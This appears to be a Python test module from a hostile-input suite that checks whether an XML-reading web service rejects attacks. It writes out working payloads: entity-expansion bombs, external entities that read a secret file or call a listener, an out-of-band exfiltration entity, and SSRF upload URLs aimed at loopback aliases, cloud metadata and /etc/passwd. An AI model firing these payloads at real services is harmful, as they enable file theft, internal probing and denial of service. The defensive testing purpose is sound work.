"""
XML that is not what it looks.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator

from tests.hostile.attack import attack
from tests.hostile.service import Service
from tests.hostile.watcher import MB
from tests.hostile.wire import Client

READ = "/read/async"


class Trap:
    """
    Somebody who listens for calls of the service.

    @ivar calls: how many there were.
    """

    def __enter__(self) -> Trap:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}/"
        self.calls = 0
        threading.Thread(target=self._listen, daemon=True).start()
        return self

    def _listen(self) -> None:
        while True:
            try:
                self._socket.accept()[0].close()
            except OSError:
                return
            self.calls += 1

    def __exit__(self, *error: object) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()


def _withTypes(service: Service, trap: Trap) -> Iterator[bytes]:
    """Documents with a document type."""
    secret = service.secret.as_uri()
    called = f"\"<!ENTITY r SYSTEM '{trap.url}?%p;'>\""
    many = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    wide = f'<!ENTITY e "{"x" * 100_000}">'
    for declared, content in (
        (f'[<!ENTITY e0 "lol">{many}]', "&e11;"),
        (f"[{wide}]", "&e;" * 100_000),
        ('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;"),
        (f'[<!ENTITY e SYSTEM "{secret}">]', "&e;"),
        (f'[<!ENTITY e SYSTEM "{trap.url}">]', "&e;"),
        (f'[<!ENTITY % p SYSTEM "{trap.url}"> %p;]', ""),
        (f'[<!ENTITY % p SYSTEM "{secret}"><!ENTITY % q {called}>%q;]', ""),
        (f'SYSTEM "{trap.url}"', ""),
        (f'PUBLIC "-//a" "{trap.url}"', ""),
        ("[<!ATTLIST a b CDATA 'c'>]", ""),
        ("[" + "<!-- -->" * 100_000 + "]", ""),
    ):  # fmt: skip
        text = f"<!DOCTYPE a {declared}><a>{content}</a>"
        yield text.encode()
    small = "<!DOCTYPE a [<!ENTITY e 'x'>]><a>&e;</a>"
    for codec in ("utf-16", "utf-16-be", "utf-32", "utf-7", "cp037"):
        yield f'<?xml version="1.0" encoding="{codec}"?>{small}'.encode(codec)
        yield small.encode(codec)
    yield b"\xef\xbb\xbf" + small.encode()
    yield b" \n" + small.encode()


@attack("entity bombs, and entities from elsewhere", memory=48 * MB, disk=32 * MB)
def entities(service: Service) -> str:
    client = Client(service.port)
    number, cpu = 0, service.cpu()
    with Trap() as trap:
        for body in _withTypes(service, trap):
            for form in (body, _asFile(body)):
                kind = "text/xml" if form is body else "multipart/form-data; boundary=b"
                answer = client.post(READ, form, kind)
                assert answer.status == 400, (body[:80], answer.status, answer.text)
                assert answer.seconds < 2, (body[:80], answer.seconds)
                number += 1
        assert not trap.calls, f"the service made {trap.calls} requests"
    return f"{number} refused, with {(service.cpu() - cpu) / number * 1000:.0f} ms of CPU each"


def _asFile(body: bytes) -> bytes:
    head = b'--b\r\nContent-Disposition: form-data; name="document"; filename="a.xml"\r\n\r\n'
    return head + body + b"\r\n--b--\r\n"


@attack("XML that is deep, wide or full of nothing", memory=160 * MB, disk=96 * MB)
def deepXML(service: Service) -> str:
    client = Client(service.port)
    told = []
    wide = " ".join(f"a{n}='b'" for n in range(100_000)).encode()
    spaces = " ".join(f"xmlns:a{n}='b{n}'" for n in range(20_000)).encode()
    for body in (
        b"<a>" * 3_000_000, b"<a>" * 1_000_000 + b"</a>" * 1_000_000, b"<a %s/>" % wide,
        b"<a %s/>" % spaces, b"<a>" + b"<!-- -->" * 3_000_000 + b"</a>",
        b"<a>" + b"<?a?>" * 4_000_000,
        b"<a>" + b"<![CDATA[x]]>" * 1_000_000 + b"</a>", b"<a>" + b"&#65;" * 5_000_000 + b"</a>",
        b"<a b='" + b"&amp;" * 4_000_000 + b"'/>", b"<" * 20_000_000, b"<a" + b":a" * 9_000_000,
    ):  # fmt: skip
        answer = client.post(READ, body, "text/xml")
        assert answer.status in (303, 400, 413), (body[:20], answer.status, answer.text)
        if answer.status == 303:
            client.end("/" + answer.headers["location"].split("/", 3)[3])
        told.append(answer.seconds)
    return f"{len(told)} answers, the last after {max(told):.2f} s"


_HOSTS = (
    "127.0.0.1", "localhost", "2130706433", "0x7f.1", "[::ffff:127.0.0.1]", "0", "127.1",
    "017700000001", "a@127.0.0.1", "127.0.0.1%2f@a.example", "[::]",
    "169.254.169.254", "[fe80::1]", "10.0.0.1", "192.168.0.1", "[fd00::1]", "[64:ff9b::7f00:1]",
)  # fmt: skip


@attack("uploads from this machine, by its many names")
def ownMachine(service: Service) -> str:
    client = Client(service.port)
    number = 0
    with Trap() as trap:
        port = trap.url.split(":")[2]
        for host in _HOSTS:
            for scheme in ("http", "https", "HTTP", "file", "ftp", "gopher"):
                value = f"UPLOAD=file,{scheme}://{host}:{port}"
                answer = client.post("/work/async", value.encode())
                assert answer.status in (303, 400), (value, answer.status, answer.text)
                if answer.status == 303:
                    job = "/" + answer.headers["location"].split("/", 3)[3]
                    assert client.untilEnded(job) == "ERROR", value
                    client.end(job)
                number += 1
        for value in (
            service.secret.as_uri(),
            f"file://localhost{service.secret}",
            "file:///etc/passwd",
        ):
            answer = client.post("/work/async", f"UPLOAD=file,{value}".encode())
            assert answer.status == 400, (value, answer.status, answer.text)
        assert not trap.calls, f"the service made {trap.calls} requests"
    return f"{number} URLs"
